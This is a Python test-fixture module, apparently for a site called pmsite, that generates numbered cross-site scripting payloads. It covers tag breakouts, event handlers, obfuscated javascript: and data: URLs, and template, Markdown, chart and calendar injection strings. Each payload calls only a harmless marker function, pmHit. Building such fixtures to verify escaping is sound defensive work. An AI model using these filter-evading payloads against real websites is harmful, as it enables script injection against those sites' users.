"""Texts that would run a script wherever one of the places that they pass through forgets to escape them.

Each calls ``pmHit`` with its number. Written for pmsite by class: what is broken out of, what then runs, how an address
is disguised, what a renderer, a template, a chart or a calendar makes of a text.
"""

from __future__ import annotations

BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "`)}",
    '\\">',
)
"""What may end the place that a text stands in."""
_RUN = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script/x>{run}</script>",
    "<script type=module>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<img src=x OnErRoR='{run}'>",
    "<img src=x onerror\n={run}>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@import 'javascript:{run}';</style><b style='x:expression({run})'>x</b>",
    "<p onclick={run} onmouseover={run}>words</p>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<form action='javascript:{run}'><button>x</button></form><button formaction='javascript:{run}'>x</button>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<a id=x tabindex=1 onfocus={run}>x</a>",
    "<div style=animation-name:x onanimationstart={run} ontransitionend={run}>x</div>",
    "<select><noembed></select><script>{run}</script></noembed>",
    "<xss onpointerover={run} autofocus tabindex=1 onfocus={run}>x</xss>",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;&#x61;vascript:{run}",
    "javascript&#58;{run}",
    "javascript:%70mHit({number})",
    "javascript://%0a{run}",
    "vbscript:{run}",
    "data:text/html,<script>opener.{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "feed:javascript:{run}",
    "jav&#x09;ascript:{run}",
)
_AS = ('<a href="{to}">x</a>', "[x]({to})", "![x]({to})", "<{to}>", "[x](<{to}>)", "<a href='{to}'>x</a>")
_OTHER = (
    "{{{{ 7 * 7 }}}}<img src=x onerror={run}>",
    "{{% for x in y %}}<script>{run}</script>{{% endfor %}}",
    "${{ {run} }}",
    "#{{ {run} }}",
    "<%= {run} %>",
    "{{: onclick=\"{run}\" onmouseover='{run}' }}",
    "words{{: onload={run} style='background:url(javascript:{run})' }}",
    "*a*{{: href=javascript:{run} }}",
    "';{run};//",
    '";{run};//',
    "\\';{run};//",
    "</script><script>{run}//",
    "<!--<script>{run}",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<b>x</b><a href='javascript:{run}'>chart label</a><br><sub onclick={run}>x</sub>",
    "<span style='color:red;background:url(javascript:{run})'>label</span>",
    'graph TD; A[<img src=x onerror={run}>] --> B; click A href "javascript:{run}"',
    "BEGIN:VEVENT\\nURL:javascript:{run}",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href='javascript:{run}'?>",
    "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;",
    'x" onmouseover="{run}" autofocus onfocus="{run}" y="',
    "x' onmouseover='{run}' autofocus onfocus='{run}' y='",
    "x onerror={run} autofocus onfocus={run}",
    "x` onmouseover=`{run}",
    "__proto__[onerror]={run}",
    "<a name=pmCharts href=x id=pmSearch></a><img name=currentScript src=x onerror={run}>",
)
_LAST = tuple(
    f"<{name}><script>{{run}}</script>"
    for name in ("plaintext", "textarea", "xmp", "title", "!-- x", "noscript")
)
"""What would take in all that follows: at the end of a text."""


def payloads() -> tuple[str, ...]:
    """All texts, each with its own number in the call."""
    turned = (
        (end, (5 * place + turn) % len(_RUN)) for place, end in enumerate(BREAKS[1:]) for turn in range(9)
    )
    shapes = [*_RUN, *(f"{end}{_RUN[number]}" for end, number in turned)]
    shapes += [way.format(to=address) for address in _ADDRESSES for way in _AS[: 3 if "\t" in address else 6]]
    shapes += [*_OTHER, *_LAST]
    return tuple(_numbered(shape, number) for number, shape in enumerate(shapes))


def _numbered(shape: str, number: int) -> str:
    shown = shape.replace("{{", "\x00").replace("}}", "\x01")
    shown = shown.replace("{run}", f"pmHit({number})").replace("{number}", str(number))
    return shown.replace("\x00", "{").replace("\x01", "}")


def groups(size: int) -> list[str]:
    """The texts, some in one; what takes in the rest stands at an end."""
    every = payloads()
    last, others = every[-len(_LAST) :], every[: -len(_LAST)]
    found = [others[start : start + size] for start in range(0, len(others), size)]
    return [" ".join([*group, *last[place : place + 1]]) for place, group in enumerate(found)]
